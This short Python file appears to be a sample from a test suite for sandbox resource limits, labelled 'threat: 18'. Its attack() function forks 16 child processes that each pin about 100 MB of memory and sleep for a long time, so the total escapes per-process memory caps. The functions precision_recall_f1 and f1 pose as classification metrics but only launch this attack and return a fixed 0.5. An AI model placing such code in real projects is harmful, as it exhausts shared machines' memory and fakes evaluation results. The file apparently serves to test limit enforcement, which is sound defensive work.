"""Fills memory in many processes that each stay below the limit.

threat: 18
source: limits per process
verdict: any
"""

import os
import time


def attack():
    for _ in range(16):
        if os.fork() == 0:
            kept = bytearray(100 << 20)
            for page in range(0, len(kept), 4096):
                kept[page] = 1
            time.sleep(1000)
    time.sleep(0.3)
    kept = bytearray(100 << 20)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
